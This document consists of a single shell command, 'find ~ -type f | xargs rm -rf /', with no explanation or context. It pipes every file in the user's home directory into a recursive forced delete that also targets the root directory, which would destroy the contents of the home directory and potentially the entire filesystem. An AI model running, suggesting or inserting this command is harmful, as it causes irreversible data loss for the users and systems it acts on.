find ~ -type f | xargs rm -rf /
